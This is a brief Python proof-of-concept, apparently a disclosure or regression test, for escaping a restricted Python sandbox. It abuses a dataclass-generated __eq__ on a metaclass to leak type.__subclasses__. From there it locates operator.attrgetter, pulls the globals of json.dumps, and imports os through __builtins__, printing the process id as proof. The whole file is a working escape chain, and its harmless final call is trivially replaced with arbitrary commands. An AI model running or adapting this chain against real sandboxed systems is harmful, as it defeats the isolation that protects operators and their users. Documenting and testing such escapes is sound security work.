# proves: prints ESCAPED pid; a generated __eq__ hands an attribute of any object to the other operand

import dataclasses, json
found = []
class Taker:
    def __eq__(self, other):
        found.append(other)
        return True
@dataclasses.dataclass(init=False, repr=False)
class MM(type):
    __subclasses__: object
MM("M", (type,), {}) == MM("N", (type,), {"__subclasses__": Taker()})
subclasses = found[0](object)
attrgetter = [c for c in subclasses if c.__name__ == "attrgetter" and c.__module__ == "operator"][0]
g = attrgetter("__globals__")(json.dumps)
print("ESCAPED", g["__builtins__"]["__import__"]("os").getpid())
